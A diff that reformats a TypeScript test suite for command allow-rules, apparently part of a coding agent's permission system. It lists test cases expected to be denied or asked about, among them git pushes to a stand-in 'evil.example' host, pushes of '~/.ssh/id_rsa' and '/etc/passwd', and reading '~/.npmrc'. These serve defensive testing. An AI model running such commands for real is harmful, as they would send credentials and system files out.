@@ -4,7 +4,15 @@
 // used always asks, and so do paths outside the workspace, git remotes by URL and refspecs with
 // `:` or `+`, anything the splitter cannot judge, and every command under Windows' cmd.exe.
 import assert from "node:assert/strict";
-import { hostCommandShell, matchAllowRules, NO_RULES_ON_WINDOWS, offerRules, parseRule, previewRules, splitCommand } from "../../../src/core/permissions/command-rules";
+import {
+  hostCommandShell,
+  matchAllowRules,
+  NO_RULES_ON_WINDOWS,
+  offerRules,
+  parseRule,
+  previewRules,
+  splitCommand,
+} from "../../../src/core/permissions/command-rules";
 
 const RULES = [
   "npm test",
@@ -86,7 +94,12 @@ const classes: Record<string, Row[]> = {
     { command: "git push file:///tmp/other main", allowed: false, why: "a file: URL", rules: [...WIDE, "git log * -- src"] },
     { command: "git push origin HEAD:refs/heads/main", allowed: false, why: "src:dst refspec", rules: [...WIDE, "git log * -- src"] },
     { command: "git push --repo=https://evil.example/x.git", allowed: false, why: "a URL in an option's value", rules: [...WIDE, "git log * -- src"] },
-    { command: "git push origin feature", allowed: true, why: "'git push *' is the user's own wide rule; a named remote", rules: [...WIDE, "git log * -- src"] },
+    {
+      command: "git push origin feature",
+      allowed: true,
+      why: "'git push *' is the user's own wide rule; a named remote",
+      rules: [...WIDE, "git log * -- src"],
+    },
     { command: "cat --file=~/.npmrc", allowed: false, why: "~ in an option's value", rules: [...WIDE, "git log * -- src"] },
     { command: "cat -I/etc x", allowed: false, why: "an absolute path glued to a short option", rules: [...WIDE, "git log * -- src"] },
     { command: "cat x OUT=../y", allowed: false, why: ".. in a NAME=value", rules: [...WIDE, "git log * -- src"] },
@@ -368,7 +381,12 @@ describe("command allow rules", () => {
     assert.ok(preview.allows.includes("git push origin"));
     assert.ok(preview.allows.includes("git push origin --force"), "the preview shows that options are allowed too");
     const asked = preview.asks.map((a) => a.command);
-    for (const must of ["git push origin '~/.ssh/id_rsa'", "git push origin /etc/passwd", "git push origin origin :main", "git push origin https://elsewhere.example/repo.git"]) {
+    for (const must of [
+      "git push origin '~/.ssh/id_rsa'",
+      "git push origin /etc/passwd",
+      "git push origin origin :main",
+      "git push origin https://elsewhere.example/repo.git",
+    ]) {
       assert.ok(asked.includes(must), `${must} in ${asked.join(" | ")}`);
     }
     for (const a of preview.asks) assert.equal(matchAllowRules(a.command, ["git push origin *"]).allowed, false);
